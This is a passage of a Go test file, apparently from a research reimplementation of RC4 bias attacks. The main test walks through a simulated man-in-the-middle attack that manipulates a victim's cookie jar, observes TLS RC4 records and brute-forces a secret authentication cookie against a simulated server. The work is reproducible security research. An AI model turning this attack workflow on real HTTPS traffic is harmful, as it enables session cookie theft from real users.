	// internals: encapsulate, then decrypt with the mixed key.
	f := s.Encapsulate(msdu, 31337)
	key := tkip.MixKey(s.TK, s.TA, 31337)
	c := mustRC4(key[:])
	plain := make([]byte, len(f.Body))
	c.XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}

// TestHTTPSNarrative runs §6 front to back: the MiTM manipulates the
// victim's cookie jar into the Listing-3 layout, the browser's jar renders
// exactly the Cookie header the attack models, requests flow over a real
// TLS RC4 connection, and the model-mode statistics recover the cookie.
func TestHTTPSNarrative(t *testing.T) {
	if testing.Short() {
		t.Skip("integration narrative is slow")
	}
	const secret = "JarManipulated16"

	// Phase 1 (§6.1): cookie-jar manipulation over plaintext HTTP.
	jar := &cookiejar.Jar{}
	for _, h := range []string{"tracking=zzz", "auth=" + secret + "; Secure", "theme=light"} {
		if err := jar.SetCookie(h, true); err != nil {
			t.Fatal(err)
		}
	}
	if err := cookiejar.ManipulateForAttack(jar, "auth", [][2]string{
		{"injected1", strings.Repeat("k", 60)},
		{"injected2", strings.Repeat("k", 80)},
		{"injected3", strings.Repeat("k", 100)},
	}); err != nil {
		t.Fatal(err)
	}
	header := jar.Header(true)
	if !strings.HasPrefix(header, "auth="+secret+"; injected1=") {
		t.Fatalf("jar did not produce the Listing-3 layout: %q", header)
	}

	// Phase 2 (§6.3): the aligned request over a real TLS connection.
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", secret, 64)
	if err != nil {
		t.Fatal(err)
	}
	master := make([]byte, tlsrec.MasterSecretSize)
	master[0] = 0xd5
	victim, err := netsim.NewHTTPSVictim(master, req)
	if err != nil {
		t.Fatal(err)
	}
	attack, err := cookieattack.New(cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		t.Fatal(err)
	}
	// A handful of real records validate the exact-mode plumbing...
	for i := 0; i < 32; i++ {
		rec := victim.SendRequest()
		if err := attack.ObserveRecord(rec[tlsrec.HeaderSize:]); err != nil {
			t.Fatal(err)
		}
	}
	// ...and model mode supplies paper-scale statistics on top. Build a
	// fresh attack so the tiny exact sample doesn't skew the evidence.
	attack2, err := cookieattack.New(cookieattack.Config{
		CookieLen:   len(secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := attack2.SimulateStatistics(rand.New(rand.NewSource(8)), []byte(secret), 1<<31); err != nil {
		t.Fatal(err)
	}
	server := &netsim.CookieServer{Secret: []byte(secret)}
	cookie, rank, err := attack2.BruteForce(1<<13, server.Check)
	if err != nil {
		t.Fatal(err)
	}
	if string(cookie) != secret {
		t.Fatalf("recovered %q at rank %d", cookie, rank)
	}
	if server.Attempts != uint64(rank) {
		t.Fatal("server attempt accounting wrong")
	}
}

func mustRC4(key []byte) *rc4pkg.Cipher {
	return rc4pkg.MustNew(key)
}
